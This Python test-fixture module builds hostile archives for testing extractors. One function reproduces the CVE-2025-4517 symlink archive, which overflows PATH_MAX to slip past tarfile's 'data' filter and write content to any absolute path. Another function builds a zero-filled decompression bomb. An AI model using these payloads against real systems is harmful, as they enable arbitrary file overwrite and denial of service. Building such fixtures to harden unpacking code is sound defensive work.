"""Archives as an attacker would pack them, for the tests of everything that unpacks one."""

import gzip
import io
import tarfile
from pathlib import Path

Entry = tarfile.TarInfo | tuple[str, bytes]


def member(name: str, kind: bytes = tarfile.REGTYPE, target: str = "", size: int = 0) -> tarfile.TarInfo:
    information = tarfile.TarInfo(name)
    information.type, information.linkname, information.size = kind, target, size
    return information


def packed(*entries: Entry) -> bytes:
    """Return a tar.gz with these members, in this order."""
    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w:gz") as tar:
        for entry in entries:
            if isinstance(entry, tarfile.TarInfo):
                tar.addfile(entry)
            else:
                tar.addfile(member(entry[0], size=len(entry[1])), io.BytesIO(entry[1]))
    return body.getvalue()


def realpath_overflow(victim: Path, content: bytes, *more: Entry) -> bytes:
    """Return the archive published for CVE-2025-4517, which writes `content` to the absolute path `victim`.

    Its links expand to a path longer than PATH_MAX, where `os.path.realpath` stops to resolve links, and with it
    the check of tarfile's filter "data".
    """
    name, steps = "d" * 247, "abcdefghijklmnop"
    entries: list[Entry] = list(more)
    path = ""
    for step in steps:
        entries.append(member(path + name, tarfile.DIRTYPE))
        entries.append(member(path + step, tarfile.SYMTYPE, name))
        path += f"{name}/"
    link = "/".join(steps) + "/" + "l" * 254
    entries.append(member(link, tarfile.SYMTYPE, "../" * len(steps)))
    escape = link + "/.." * 12 + victim.parent.as_posix()
    entries.append(member("escape", tarfile.SYMTYPE, escape))
    entries.append((f"escape/{victim.name}", content))
    return packed(*entries)


def zeros_bomb(name: str, size: int) -> bytes:
    """Return an archive whose only file has `size` zeros."""
    body = io.BytesIO()
    with gzip.GzipFile(fileobj=body, mode="wb", compresslevel=1) as stream:
        stream.write(member(name, size=size).tobuf())
        block = bytes(1 << 20)
        for _ in range(size >> 20):
            stream.write(block)
        stream.write(bytes(tarfile.RECORDSIZE))
    return body.getvalue()
